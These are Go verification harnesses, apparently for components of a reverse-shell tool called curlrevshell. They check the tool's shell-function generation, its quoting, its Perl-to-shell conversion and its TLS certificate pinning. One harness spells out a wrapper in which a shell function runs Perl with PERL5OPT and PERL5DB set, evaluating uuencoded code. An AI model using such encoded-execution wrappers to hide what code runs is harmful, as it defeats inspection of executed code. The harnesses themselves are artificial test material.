	tabWritten = append(tabWritten, buf...)
	return len(buf), nil
}

func stubTabFlush(w *tabwriter.Writer) error {
	for i, row := range tabRows {
		if i > 0 {
			tabOut.Write([]byte{'\n'})
		}
		tabOut.Write(row)
	}
	tabOut.Write([]byte{'\n'})
	return nil
}

// refShWord lexes, by the POSIX shell rules, the single word that starts at s[i:] and runs to
// the end of s: unquoted '...' sections are literal up to the next quote, \' outside quotes is
// a literal quote, adjacent sections concatenate.  Any other character outside quotes is an
// active or word-splitting character and makes the word unsafe.
func refShWord(s []byte) (word []byte, safe bool) {
	i := 0
	word = []byte{}
	for i < len(s) {
		switch {
		case s[i] == '\'':
			i++
			for i < len(s) && s[i] != '\'' {
				word = append(word, s[i])
				i++
			}
			if i >= len(s) {
				return word, false // unterminated quote
			}
			i++
		case s[i] == '\\' && i+1 < len(s) && s[i+1] == '\'':
			word = append(word, '\'')
			i += 2
		default:
			return word, false // something active outside quotes
		}
	}
	return word, true
}

func splitLines(b []byte) [][]byte {
	var out [][]byte
	start := 0
	for i := range b {
		if b[i] == '\n' {
			out = append(out, b[start:i])
			start = i + 1
		}
	}
	if start < len(b) {
		out = append(out, b[start:])
	}
	return out
}

func lessBytes(a, b []byte) bool { return string(a) < string(b) }

// HarnessC18Quote: r rows of up to m arbitrary bytes each.
func HarnessC18Quote() {
	r := verifParam("r")
	m := verifParam("m")
	tabRows = nil
	for i := 0; i < r; i++ {
		row := nondetBytes(nondetLen(m), 0)
		for j := range row {
			verifAssume(row[j] != 0 && row[j] != '\n')
		}
		tabRows = append(tabRows, row)
	}
	out, err := GenFuncList("# TABDOC: x y")
	verifAssert(err == nil, "C18.no-error")
	lines := splitLines(out)
	verifAssert(len(lines) >= 2, "C18.has-frame")
	if len(lines) < 2 {
		return
	}
	verifAssert(string(lines[0]) == "tab_list() {", "C18.opens-function")
	verifAssert(string(lines[len(lines)-1]) == "}", "C18.closes-function")
	body := lines[1 : len(lines)-1]
	// expected rows: the distinct non-empty rows, sorted
	var want [][]byte
	for _, row := range tabRows {
		if len(row) == 0 {
			continue
		}
		dup := false
		for _, w := range want {
			if string(w) == string(row) {
				dup = true
			}
		}
		if !dup {
			want = append(want, row)
		}
	}
	for i := 0; i < len(want); i++ {
		for j := i + 1; j < len(want); j++ {
			if lessBytes(want[j], want[i]) {
				want[i], want[j] = want[j], want[i]
			}
		}
	}
	if verifCanary() && len(want) > 0 {
		want = want[1:]
	}
	verifAssert(len(body) == len(want), "C18.one-line-per-distinct-row")
	if len(body) != len(want) {
		return
	}
	const pre = "        echo "
	for i, l := range body {
		verifAssert(len(l) > len(pre) && string(l[:len(pre)]) == pre, "C18.line-is-echo")
		if len(l) <= len(pre) {
			return
		}
		word, safe := refShWord(l[len(pre):])
		verifAssert(safe, "C18.nothing-active-outside-quotes")
		verifAssert(string(word) == string(want[i]), "C18.echo-gets-the-row-as-one-literal-word")
	}
	verifReach("C18.quote.end")
}

func isRowSpace(b byte) bool { return b == ' ' || b == '\r' }

// HarnessC18Rows: row fidelity, front half: what reaches the table for ONE tagged line of m
// arbitrary ASCII bytes (free of the tab-writer's control bytes TAB, VT, FF, and of NUL and
// newline): the first word as the name cell, the remainder - byte for byte, inner spacing
// included - as the description cell.
func HarnessC18Rows() {
	m := verifParam("m")
	line := nondetBytes(m, 0)
	for i := range line {
		line[i] &= 0x7f
		verifAssume(line[i] != 0 && line[i] != '\n' && line[i] != '\t' && line[i] != '\v' && line[i] != '\f')
	}
	tabRows, tabWritten = nil, nil
	payload := "f() { :; }\n" + DocPrefix + string(line) + "\nnot a doc line\n"
	_, err := GenFuncList(payload)
	verifAssert(err == nil, "C18.rows.no-error")
	// reference: trim, cut at the first space, trim the remainder
	a, b := 0, len(line)
	for a < b && isRowSpace(line[a]) {
		a++
	}
	for b > a && isRowSpace(line[b-1]) {
		b--
	}
	want := ListFuncName + "\t- " + ListFuncDesc + "\n"
	if a < b {
		sp := a
		for sp < b && line[sp] != ' ' {
			sp++
		}
		name := line[a:sp]
		d := sp
		for d < b && isRowSpace(line[d]) {
			d++
		}
		// a carriage return inside the first word belongs to the word; at its edges it is trimmed
		na, nb := 0, len(name)
		for na < nb && isRowSpace(name[na]) {
			na++
		}
		for nb > na && isRowSpace(name[nb-1]) {
			nb--
		}
		want += string(name[na:nb]) + "\t- " + string(line[d:b]) + "\n"
	}
	if verifCanary() {
		want += " "
	}
	verifAssert(string(tabWritten) == want, "C18.rows.name-is-first-word-description-is-the-remainder-unchanged")
	verifReach("C18.rows.end")
}
