package shellfuncsfile

// Harness for C17: the Ctrl+I payload is exactly the eligible files, converted, in name order.
//
// Converter.FS (a documented field) is a harness-defined file system whose single directory
// "d" holds e entries with SYMBOLIC names (assumed sorted and distinct, as fs.ReadDir
// guarantees), symbolic kinds (regular, directory, symlink to a regular file, dangling
// symlink) and symbolic contents.  The filter table is user-modified: "*.p" and "?.*" are
// tagging filters (so the oracle sees which filter ran), "*.s" is the real FromShell.

import (
	"errors"
	"io"
	"io/fs"
	"time"
)

const (
	kRegular = iota
	kDir
	kSymlink  // symlink to a regular file: Stat follows it
	kDangling // directory entry exists, Stat fails
)

type hEntry struct {
	name string
	kind int
	data []byte
}

type hFS struct {
	entries []hEntry
	opened  []string
	dirRead bool // some sub-directory was read as if it were a file
}

type hInfo struct {
	name string
	mode fs.FileMode
	size int64
}

func (i hInfo) Name() string               { return i.name }
func (i hInfo) Size() int64                { return i.size }
func (i hInfo) Mode() fs.FileMode          { return i.mode }
func (i hInfo) ModTime() time.Time         { return time.Time{} }
func (i hInfo) IsDir() bool                { return i.mode&fs.ModeDir != 0 }
func (i hInfo) Sys() any                   { return nil }
func (i hInfo) Type() fs.FileMode          { return i.mode & fs.ModeType }
func (i hInfo) Info() (fs.FileInfo, error) { return i, nil }

type hFile struct {
	info  hInfo
	data  []byte
	pos   int
	isDir bool
	fs    *hFS
}

func (f *hFile) Stat() (fs.FileInfo, error) { return f.info, nil }
func (f *hFile) Close() error               { return nil }
func (f *hFile) Read(p []byte) (int, error) {
	if f.isDir {
		f.fs.dirRead = true
		return 0, errors.New("is a directory")
	}
	if f.pos >= len(f.data) {
		return 0, io.EOF
	}
	n := copy(p, f.data[f.pos:])
	f.pos += n
	return n, nil
}

func notExist(op, name string) error { return &fs.PathError{Op: op, Path: name, Err: fs.ErrNotExist} }

func (h *hFS) find(name string) (int, bool) {
	if len(name) < 3 || name[:2] != "d/" {
		return 0, false
	}
	base := name[2:]
	for i := range h.entries {
		if h.entries[i].name == base {
			return i, true
		}
	}
	return 0, false
}

// lstat-like mode of a directory entry
func (h *hFS) entryMode(e hEntry) fs.FileMode {
	switch e.kind {
	case kDir:
		return fs.ModeDir | 0o755
	case kSymlink, kDangling:
		return fs.ModeSymlink | 0o777
	}
	return 0o644
}

func (h *hFS) Stat(name string) (fs.FileInfo, error) {
	if name == "d" {
		return hInfo{name: "d", mode: fs.ModeDir | 0o755}, nil
	}
	if name == "f.s" || name == "plain" {
		return hInfo{name: name, mode: 0o644, size: 2}, nil
	}
	i, ok := h.find(name)
	if !ok {
		return nil, notExist("stat", name)
	}
	e := h.entries[i]
	switch e.kind {
	case kDir:
		return hInfo{name: e.name, mode: fs.ModeDir | 0o755}, nil
	case kDangling:
		return nil, notExist("stat", name)
	}
	return hInfo{name: e.name, mode: 0o644, size: int64(len(e.data))}, nil
}

func (h *hFS) Open(name string) (fs.File, error) {
	h.opened = append(h.opened, name)
	if name == "f.s" {
		return &hFile{info: hInfo{name: name, mode: 0o644}, data: []byte("S\n")}, nil
	}
	if name == "plain" {
		return &hFile{info: hInfo{name: name, mode: 0o644}, data: []byte("P")}, nil
	}
	i, ok := h.find(name)
	if !ok {
		return nil, notExist("open", name)
	}
	e := h.entries[i]
	if e.kind == kDangling {
		return nil, notExist("open", name)
	}
	if e.kind == kDir {
		return &hFile{info: hInfo{name: e.name, mode: fs.ModeDir | 0o755}, isDir: true, fs: h}, nil
	}
	return &hFile{info: hInfo{name: e.name, mode: 0o644, size: int64(len(e.data))}, data: e.data}, nil
}

func (h *hFS) ReadDir(name string) ([]fs.DirEntry, error) {
	if name != "d" {
		return nil, notExist("readdir", name)
	}
	var out []fs.DirEntry
	for _, e := range h.entries {
		out = append(out, hInfo{name: e.name, mode: h.entryMode(e)})
	}
	return out, nil
}

func tagP(_ string, r io.Reader) ([]byte, error) {
	b, err := io.ReadAll(r)
	return append([]byte("P:"), b...), err
}

func tagX(_ string, r io.Reader) ([]byte, error) {
	b, err := io.ReadAll(r)
	return append([]byte("X:"), b...), err
}

func ensureNL(b []byte) []byte {
	if len(b) != 0 && b[len(b)-1] != '\n' {
		return append(b, '\n')
	}
	return b
}

// matchRef: pattern matching restated for the three patterns of the table.
func hasSuffix2(n string, a, b byte) bool {
	return len(n) >= 2 && n[len(n)-2] == a && n[len(n)-1] == b
}

func mkEntries(e, L int) []hEntry {
	var es []hEntry
	for i := 0; i < e; i++ {
		nb := nondetBytes(1+nondetLen(L-1), 0)
		for j := range nb {
			nb[j] &= 0x7f // ASCII names (all 128 values); masking keeps the value range visible to the engine
			verifAssume(nb[j] != '/' && nb[j] != 0 && nb[j] != '\\')
		}
		n := string(nb)
		verifAssume(n != "." && n != "..")
		if i > 0 {
			verifAssume(es[i-1].name < n) // sorted, distinct (fs.ReadDir contract)
		}
		es = append(es, hEntry{name: n, kind: nondetChoice(4), data: nondetBytes(verifParam("dl"), 0)})
	}
	return es
}

// HarnessC17Dir: payload built from a directory.
func HarnessC17Dir() {
	h := &hFS{entries: mkEntries(verifParam("e"), verifParam("L"))}
	c := NewDefaultConverter()
	c.FS = h
	c.SetFilter("*.pl", nil)
	c.SetFilter("*.sh", nil)
	c.SetFilter("*.subr", nil)
	c.SetFilter("*.s", FromShell)
	c.SetFilter("*.p", tagP)
	c.SetFilter("?.*", tagX)
	// oracle: patterns in sorted order are "*.p" < "*.s" < "?.*"
	var want []byte
	for _, e := range h.entries {
		if e.kind != kRegular && e.kind != kSymlink {
			continue
		}
		if e.name[0] == '.' {
			continue
		}
		var part []byte
		switch {
		case hasSuffix2(e.name, '.', 'p'):
			part = append([]byte("P:"), e.data...)
		case hasSuffix2(e.name, '.', 's'):
			part = append([]byte{}, e.data...)
		case len(e.name) >= 2 && e.name[1] == '.':
			part = append([]byte("X:"), e.data...)
		default:
			continue
		}
		want = append(want, ensureNL(part)...)
	}
	if verifCanary() {
		want = append(want, '!')
	}
	// a dangling symlink whose name is eligible (matching, not a dot-file) is allowed to fail the conversion
	mayFail := false
	for _, e := range h.entries {
		if e.kind == kDangling && e.name[0] != '.' && (hasSuffix2(e.name, '.', 'p') || hasSuffix2(e.name, '.', 's') || len(e.name) >= 2 && e.name[1] == '.') {
			mayFail = true
		}
	}
	got, err := c.From("d")
	if mayFail {
		verifReach("C17.dir.dangling-eligible")
		return
	}
	verifAssert(err == nil, "C17.ineligible-entries-cannot-make-it-fail")
	if err != nil {
		return
	}
	verifAssert(string(got) == string(want), "C17.payload-is-exactly-the-eligible-files-in-name-order")
	verifAssert(!h.dirRead, "C17.subdirectories-never-read")
	// same result on a second call
	got2, err2 := c.From("d")
	verifAssert(err2 == nil && string(got2) == string(got), "C17.stable-across-calls")
	verifReach("C17.dir.end")
}

// HarnessC17Sources: single files and several sources.
func HarnessC17Sources() {
	h := &hFS{entries: []hEntry{{name: "a.s", kind: kRegular, data: nondetBytes(nondetLen(2), 0)}}}
	c := NewDefaultConverter()
	c.FS = h
	c.SetFilter("*.s", FromShell)
	d := h.entries[0].data
	got, err := c.From("plain")
	verifAssert(err == nil && string(got) == "P", "C17.unmatched-single-file-unchanged")
	got, err = c.From("f.s")
	verifAssert(err == nil && string(got) == "S\n", "C17.single-file-converted")
	got, err = c.From("f.s", "d", "plain")
	want := "S\n" + string(ensureNL(append([]byte{}, d...))) + "P"
	if verifCanary() {
		want += "!"
	}
	verifAssert(err == nil && string(got) == want, "C17.sources-concatenated-in-given-order")
	verifReach("C17.sources.end")
}
