package shellfuncsfile

// Harness for C16 (textual half): the program text perl receives from the generated shell
// function is the script with surrounding whitespace trimmed and the run of comment lines at
// its very top blanked; leading comments (minus #! and bare # lines) are kept in front of the
// function; the name is the base name without extension; the carried text cannot end the
// single-quoted PERL5DB string or the q{} construct.
//
// The script is a SHAPE (chosen by forks) of line classes with symbolic content bytes, so the
// oracle is computed from the shape, independently of the code's string handling.

import (
	"bytes"
)

const (
	lcShebang = iota // "#!" + text
	lcBare           // "#"
	lcComment        // "#" + non-'!' + text
	lcBlank          // ""
	lcCode           // non-'#', non-space first byte
	lcEnd            // the line "__END__" (e.g. inside a here-doc or string, or a real trailer)
	lcData           // the line "__DATA__"
)

func isSpaceByte(b byte) bool {
	return b == ' ' || b == '\t' || b == '\n' || b == '\v' || b == '\f' || b == '\r'
}

// mkLine builds a line of the given class with n symbolic content bytes (ASCII, no newline).
func mkLine(class, n int, last bool) []byte {
	switch class {
	case lcBare:
		return []byte("#")
	case lcBlank:
		return []byte{}
	case lcEnd:
		return []byte("__END__")
	case lcData:
		return []byte("__DATA__")
	}
	b := nondetBytes(n, 0)
	for i := range b {
		b[i] &= 0x7f
		verifAssume(b[i] != '\n')
	}
	switch class {
	case lcShebang:
		return append([]byte("#!"), b...)
	case lcComment:
		if n == 0 {
			return []byte("#c")
		}
		verifAssume(b[0] != '!')
		return append([]byte("#"), b...)
	}
	// code
	if n == 0 {
		return []byte("1")
	}
	verifAssume(b[0] != '#' && !isSpaceByte(b[0]))
	if last {
		verifAssume(!isSpaceByte(b[n-1]))
	}
	return b
}

func refUnpackC16(text []byte) []byte {
	out := []byte{}
	i := 0
	for i < len(text) {
		n := verifConcreteInt(int((text[i] - 32) & 63))
		i++
		got := 0
		for got < n && i+3 < len(text) && text[i] != '\n' {
			var w uint32
			for k := 0; k < 4; k++ {
				w = w<<6 | uint32((text[i+k]-32)&63)
			}
			i += 4
			for k := 0; k < 3 && got < n; k++ {
				out = append(out, byte(w>>(16-8*uint(k))))
				got++
			}
		}
		for i < len(text) && text[i] != '\n' {
			i++
		}
		i++
	}
	return out
}

const (
	c16Head = "() {(\n(exit $((0 != $#))) || set -- -e \"\" -- \"$@\";\nPERL5OPT=-d PERL5DB='BEGIN{eval(unpack(u,q{`\n"
	c16Tail = "\n}=~y/sb/\\47\\134/r));die\"Error: $@\"if(\"\"ne$@);exit}' perl \"$@\"; )}\n"
)

// HarnessC16Text: nl lines (classes by fork), each with cl content bytes, the last one a code
// line of n bytes; optional surrounding whitespace.
func HarnessC16Text() {
	nl := verifParam("nl")
	cl := verifParam("cl")
	n := verifParam("n")
	var lines [][]byte
	var classes []int
	shape := verifParam("shape") // 0: line classes by fork; 1: all comment lines; 2: #! line then comments
	for i := 0; i < nl; i++ {
		c := lcComment
		switch {
		case shape == 0:
			c = nondetChoice(7)
		case shape == 2 && i == 0:
			c = lcShebang
		}
		if i == 0 {
			verifAssume(c != lcBlank) // a leading blank line is trimmed: covered by the lead-whitespace choice
		}
		classes = append(classes, c)
		lines = append(lines, mkLine(c, cl, false))
	}
	classes = append(classes, lcCode)
	lines = append(lines, mkLine(lcCode, n, true))
	script := []byte{}
	if nondetBool() {
		script = append(script, " \n\t"...)
	}
	script = append(script, bytes.Join(lines, []byte("\n"))...)
	if nondetBool() {
		script = append(script, "\n \n"...)
	}

	// oracle from the shape
	top := 0 // length of the run of comment lines at the very top
	for top < len(classes) && (classes[top] == lcShebang || classes[top] == lcBare || classes[top] == lcComment) {
		top++
	}
	start := 0
	for start < top && (classes[start] == lcShebang || classes[start] == lcBare) {
		start++
	}
	var wantLead, wantPerl []byte
	for i := start; i < top; i++ {
		wantLead = append(append(wantLead, lines[i]...), '\n')
	}
	for i := range lines {
		if i >= top {
			wantPerl = append(wantPerl, lines[i]...)
		}
		wantPerl = append(wantPerl, '\n')
	}
	if verifCanary() {
		wantPerl[len(wantPerl)-1] = ' '
	}

	out, err := FromPerl("/some/dir/myfunc.pl", bytes.NewReader(script))
	verifAssert(err == nil, "C16.no-error")
	pre := string(wantLead) + "myfunc" + c16Head
	verifAssert(len(out) >= len(pre)+len(c16Tail), "C16.frame-length")
	if len(out) < len(pre)+len(c16Tail) {
		return
	}
	verifAssert(string(out[:len(pre)]) == pre, "C16.lead-comments-name-and-frame")
	verifAssert(string(out[len(out)-len(c16Tail):]) == c16Tail, "C16.frame-tail")
	body := out[len(pre) : len(out)-len(c16Tail)]
	dec := make([]byte, len(body))
	for i, b := range body {
		okc := b == '\n' || b == 's' || b == 'b' || (b >= 32 && b <= 96 && b != '\'' && b != '\\')
		verifAssert(okc, "C16.body-cannot-end-the-quoting")
		switch b {
		case 's':
			dec[i] = '\''
		case 'b':
			dec[i] = '\\'
		default:
			dec[i] = b
		}
	}
	got := refUnpackC16(append(dec, '\n'))
	verifAssert(string(got) == string(wantPerl), "C16.perl-receives-trimmed-script-with-top-comments-blanked")
	verifReach("C16.text.end")
}

// HarnessC16Empty: empty input gives an empty function body; whitespace-only input is trimmed to nothing.
func HarnessC16Empty() {
	out, err := FromPerl("x/empty.pl", bytes.NewReader(nil))
	verifAssert(err == nil && string(out) == "empty() {}\n", "C16.empty-script")
	verifReach("C16.empty.end")
}

// HarnessC16Big: scripts of big-2, big-1 or big bytes (big up to 64 KiB): lines of filler
// code with arbitrary printable bytes at the start, the middle and the end.
func HarnessC16Big() {
	size := verifParam("big") - nondetChoice(3)
	script := make([]byte, size)
	for i := range script {
		if i%61 == 60 {
			script[i] = '\n'
		} else {
			script[i] = 'a' + byte(i%7)
		}
	}
	script[size-1] = ';'
	for _, at := range []int{1, size / 2, size - 2} {
		if at > 0 && at < size-1 && script[at] != '\n' {
			b := nondetByte() & 0x7f
			verifAssume(b > 32 && b < 127)
			script[at] = b
		}
	}
	out, err := FromPerl("/some/dir/myfunc.pl", bytes.NewReader(script))
	verifAssert(err == nil, "C16.big.no-error")
	pre := "myfunc" + c16Head
	if err != nil || len(out) < len(pre)+len(c16Tail) {
		verifAssert(err != nil, "C16.big.frame-length")
		return
	}
	verifAssert(string(out[:len(pre)]) == pre, "C16.big.name-and-frame")
	verifAssert(string(out[len(out)-len(c16Tail):]) == c16Tail, "C16.big.frame-tail")
	body := out[len(pre) : len(out)-len(c16Tail)]
	dec := make([]byte, len(body))
	for i, b := range body {
		okc := b == '\n' || b == 's' || b == 'b' || (b >= 32 && b <= 96 && b != '\'' && b != '\\')
		verifAssert(okc, "C16.big.body-cannot-end-the-quoting")
		switch b {
		case 's':
			dec[i] = '\''
		case 'b':
			dec[i] = '\\'
		default:
			dec[i] = b
		}
	}
	got := refUnpackC16(append(dec, '\n'))
	want := string(script) + "\n"
	if verifCanary() {
		want = string(script) + " "
	}
	verifAssert(string(got) == want, "C16.big.perl-receives-the-whole-script")
	verifReach("C16.big.end")
}
