package sstls

// Harness for C05 (sstls part): the fingerprint the listener advertises is the pin of the
// key it serves.  Cryptography is replaced by injective tagging functions (pkix, sha256,
// base64 as uninterpreted functions), GetCertificate by a stub returning an opaque
// certificate, tls.Listen by a recorder of its configuration.

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"net"
	"time"
)

//verif:stub github.com/magisterquis/curlrevshell/lib/sstls.GetCertificate stubGetCertificate
//verif:stub crypto/x509.MarshalPKIXPublicKey stubMarshalPKIX
//verif:stub crypto/sha256.Sum256 stubSum256
//verif:stub (*encoding/base64.Encoding).EncodeToString stubB64Encode
//verif:stub crypto/tls.Listen stubTLSListen
//verif:stub github.com/magisterquis/curlrevshell/lib/sstls.GenerateSelfSignedCertificate stubGenerateC05
//verif:stub github.com/magisterquis/curlrevshell/lib/sstls.SaveCertificate stubSaveC05

var (
	getCertFails bool
	leafMissing  bool
	keyID        byte
	marshalFails bool
	listenFails  bool
	listenConfig *tls.Config
	listenCalls  int
	getCertCalls int
)

var errC05 = errors.New("stub failure")

type keyTag struct{ id byte }

func stubGetCertificate(subject string, dnsNames []string, ips []net.IP, lifespan time.Duration, certFile string) (tls.Certificate, error) {
	getCertCalls++
	if getCertFails {
		return tls.Certificate{}, errC05
	}
	c := tls.Certificate{Certificate: [][]byte{{'C', keyID}}}
	if !leafMissing {
		// validity dates are arbitrary: the cached certificate may be long expired or not yet valid
		c.Leaf = &x509.Certificate{PublicKey: keyTag{keyID}, Raw: []byte{'R', keyID ^ 0x55}, NotBefore: verifTime(nondetInt64()), NotAfter: verifTime(nondetInt64())}
	}
	return c, nil
}

// any certificate generated during this run has a different key than the cached one
func stubGenerateC05(subject string, dnsNames []string, ips []net.IP, lifespan time.Duration) ([]byte, []byte, tls.Certificate, error) {
	genC05++
	id := keyID ^ 0x01
	return []byte("c"), []byte("k"), tls.Certificate{Certificate: [][]byte{{'C', id}}, Leaf: &x509.Certificate{PublicKey: keyTag{id}}}, nil
}
func stubSaveC05(certFile string, certPEM, keyPEM []byte) error { return nil }

var genC05 int

func stubMarshalPKIX(pub any) ([]byte, error) {
	if marshalFails {
		return nil, errC05
	}
	k, ok := pub.(keyTag)
	if !ok {
		return []byte{'?'}, nil
	}
	return []byte{'P', k.id}, nil
}
func stubSum256(b []byte) [32]byte {
	var h [32]byte
	h[0] = 'H'
	for i := 0; i < len(b) && i < 8; i++ {
		h[1+i] = b[i]
	}
	return h
}
func stubB64Encode(enc *base64.Encoding, src []byte) string { return "B" + string(src[:4]) }

type recListener struct{}

func (recListener) Accept() (net.Conn, error) { return nil, net.ErrClosed }
func (recListener) Close() error              { return nil }
func (recListener) Addr() net.Addr            { return nil }

func stubTLSListen(network, laddr string, config *tls.Config) (net.Listener, error) {
	listenCalls++
	listenConfig = config
	if listenFails {
		return nil, errC05
	}
	return recListener{}, nil
}

// HarnessC05Listen: for every key, the advertised fingerprint is b64(sha256(pkix(key))) of the
// one certificate handed to tls.Listen.
func HarnessC05Listen() {
	getCertFails, leafMissing, marshalFails, listenFails = nondetBool(), nondetBool(), nondetBool(), nondetBool()
	keyID = nondetByte()
	l, err := Listen("tcp", "127.0.0.1:0", "", 0, "cache")
	if getCertFails || leafMissing || marshalFails || listenFails {
		verifAssert(err != nil, "C05.listen.failure-reported")
		verifAssert(l.Fingerprint == "" && l.Listener == nil, "C05.listen.nothing-advertised-on-failure")
		verifReach("C05.listen.failed")
		return
	}
	verifAssert(err == nil && listenCalls == 1, "C05.listen.ok")
	// the key the listener will actually present: the one certificate in the configuration
	cfg := listenConfig
	okCfg := cfg != nil && len(cfg.Certificates) == 1 && len(cfg.Certificates[0].Certificate) == 1 &&
		len(cfg.Certificates[0].Certificate[0]) == 2 && cfg.Certificates[0].Certificate[0][0] == 'C' &&
		cfg.GetCertificate == nil && cfg.GetConfigForClient == nil && len(cfg.NameToCertificate) == 0
	verifAssert(okCfg, "C05.only-one-certificate-is-served")
	if !okCfg {
		return
	}
	served := cfg.Certificates[0].Certificate[0][1]
	want := "B" + string([]byte{'H', 'P', served, 0})
	if verifCanary() {
		want = "B" + string([]byte{'H', 'R', served ^ 0x55, 0})
	}
	verifAssert(l.Fingerprint == want, "C05.fingerprint-is-hash-of-served-public-key")
	verifReach("C05.listen.ok")
}
