package sstls

// Harnesses for C08 (certificate cache: stable identity, safe under torn writes, owner-only).
//
// File system and cryptography are contract stubs: os.ReadFile returns symbolic (data, err)
// with err nil / wrapping fs.ErrNotExist / some other error; tls.X509KeyPair and
// x509.ParseCertificate succeed or fail symbolically and record their inputs;
// GenerateSelfSignedCertificate's crypto is replaced by a stub returning fresh PEM byte
// vectors; os.MkdirAll / os.WriteFile are recorders with symbolic results.  txtar.Parse and
// txtar.Format are executed for real.

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"io/fs"
	"math/big"
	"net"
	"os"
	"time"

	"golang.org/x/tools/txtar"
)

//verif:stub os.ReadFile stubReadFile
//verif:stub os.MkdirAll stubMkdirAll
//verif:stub os.WriteFile stubWriteFile
//verif:stub os.OpenFile stubOpenFile
//verif:stub os.Create stubCreate
//verif:stub (*os.File).Write stubFileWrite
//verif:stub (*os.File).WriteString stubFileWriteString
//verif:stub (*os.File).Close stubFileClose
//verif:stub (*os.File).Sync stubFileSync
//verif:stub (*os.File).Chmod stubFileChmod
//verif:stub os.Chmod stubChmod
//verif:stub os.Rename stubRename
//verif:stub os.Remove stubRemove
//verif:stub crypto/tls.X509KeyPair stubX509KeyPair
//verif:stub crypto/x509.ParseCertificate stubParseCertificate
//verif:stub github.com/magisterquis/curlrevshell/lib/sstls.GenerateSelfSignedCertificate stubGenerate
//verif:stub (time.Time).Format stubTimeFormat
//verif:stub encoding/pem.Decode stubPemDecode
//verif:stub crypto/x509.ParsePKCS8PrivateKey stubParsePKCS8
//verif:stub crypto/x509.ParseECPrivateKey stubParseECKey
//verif:stub (*crypto/ecdsa.PublicKey).Equal stubECPubEqual
//verif:stub (*crypto/ecdsa.PrivateKey).Equal stubECPrivEqual
//verif:stub (*crypto/ecdsa.PrivateKey).Public stubECPublic

type writeRec struct {
	name string
	data []byte
	perm fs.FileMode
}
type mkdirRec struct {
	path string
	perm fs.FileMode
}

var (
	readClass  int // 0 ok, 1 not exist, 2 other error
	fileData   []byte
	reads      int
	mkdirs     []mkdirRec
	writes     []writeRec
	mkdirFails bool
	writeFails bool
	pairFails  bool
	parseFails bool
	genFails   bool
	pairCert   []byte
	pairKey    []byte
	pairCalls  int
	genCert    []byte
	genKey     []byte
	genCalls   int
	theLeaf    *x509.Certificate
)

var errIO = errors.New("i/o error")

func stubReadFile(name string) ([]byte, error) {
	reads++
	if reads > 3 {
		// whatever the file system answers, start-up looks at the cache a bounded number of times
		verifAssert(false, "C20.startup-terminates-whatever-the-cache-path-is")
		verifAssume(false)
	}
	switch readClass {
	case 1:
		return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
	case 2:
		return nil, &fs.PathError{Op: "open", Path: name, Err: errIO}
	}
	return fileData, nil
}
func stubMkdirAll(path string, perm fs.FileMode) error {
	mkdirs = append(mkdirs, mkdirRec{path, perm})
	if mkdirFails {
		return errIO
	}
	return nil
}
func stubWriteFile(name string, data []byte, perm fs.FileMode) error {
	writes = append(writes, writeRec{name, append([]byte{}, data...), perm})
	if writeFails {
		return errIO
	}
	return nil
}

// The cache path can be written through other calls than os.WriteFile; they share its
// model.  The path is absent on read (readClass 1) either because nothing is there or because
// it is a dangling symbolic link: creating it exclusively then fails with EEXIST, creating it
// plainly fails with ENOENT or succeeds.
var (
	dangling  bool
	openFile  *os.File
	renames   int
	closeErrs bool
)

func stubOpenFile(name string, flag int, perm fs.FileMode) (*os.File, error) {
	if flag&(os.O_WRONLY|os.O_RDWR) == 0 {
		verifAssert(false, "C08.cache-opened-for-reading-through-an-unmodelled-call")
		verifAssume(false)
	}
	if flag&os.O_EXCL != 0 && (readClass != 1 || dangling) {
		return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrExist}
	}
	if flag&os.O_CREATE == 0 && readClass == 1 {
		return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
	}
	writes = append(writes, writeRec{name, nil, perm})
	if writeFails {
		return nil, &fs.PathError{Op: "open", Path: name, Err: errIO}
	}
	openFile = &os.File{}
	return openFile, nil
}
func stubCreate(name string) (*os.File, error) {
	return stubOpenFile(name, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o666)
}
func stubFileWrite(f *os.File, b []byte) (int, error) {
	if f != openFile || len(writes) == 0 {
		return 0, errIO
	}
	w := &writes[len(writes)-1]
	w.data = append(w.data, b...)
	return len(b), nil
}
func stubFileWriteString(f *os.File, s string) (int, error) { return stubFileWrite(f, []byte(s)) }
func stubFileClose(f *os.File) error                        { return nil }
func stubFileSync(f *os.File) error                         { return nil }
func stubFileChmod(f *os.File, m fs.FileMode) error {
	if f == openFile && len(writes) > 0 {
		writes[len(writes)-1].perm = m
	}
	return nil
}
func stubChmod(name string, m fs.FileMode) error {
	for i := range writes {
		if writes[i].name == name {
			writes[i].perm = m
		}
	}
	return nil
}
func stubRename(from, to string) error {
	for i := range writes {
		if writes[i].name == from {
			writes[i].name = to
		}
	}
	renames++
	return nil
}
func stubRemove(name string) error { return nil }

func stubX509KeyPair(certPEM, keyPEM []byte) (tls.Certificate, error) {
	pairCalls++
	pairCert = append([]byte{}, certPEM...)
	pairKey = append([]byte{}, keyPEM...)
	if pairFails {
		return tls.Certificate{}, errors.New("tls: failed to find any PEM data")
	}
	if !keyMatches {
		return tls.Certificate{}, errors.New("tls: private key does not match public key")
	}
	return tls.Certificate{Certificate: [][]byte{{1}, {7}}}, nil // a chain of two: leaf first
}
func stubParseCertificate(der []byte) (*x509.Certificate, error) {
	if parseFails {
		return nil, errors.New("x509: malformed certificate")
	}
	c := &x509.Certificate{Raw: append([]byte{}, der...), PublicKey: &ecdsa.PublicKey{Curve: theCurve}}
	if len(der) == 1 && der[0] == 1 {
		theLeaf = c
	}
	return c, nil
}
func stubGenerate(subject string, dnsNames []string, ipAddresses []net.IP, lifespan time.Duration) ([]byte, []byte, tls.Certificate, error) {
	genCalls++
	if genFails {
		return nil, nil, tls.Certificate{}, errors.New("generating key: entropy")
	}
	genCert = pemish(2)
	genKey = pemishKind(2, 'K')
	return genCert, genKey, tls.Certificate{Certificate: [][]byte{{2}}, Leaf: &x509.Certificate{}}, nil
}

// stubPemDecode: encoding/pem's contract: the first PEM block and the rest, or a nil block and
// the whole input when no PEM data is found.
func stubPemDecode(data []byte) (*pem.Block, []byte) {
	if pemFails {
		return nil, data
	}
	if len(data) > 0 && data[0] == 'K' {
		pairCalls++ // the key member has been handed to the crypto library
		pairKey = append([]byte{}, data...)
		return &pem.Block{Type: "PRIVATE KEY", Bytes: []byte{9}}, nil
	}
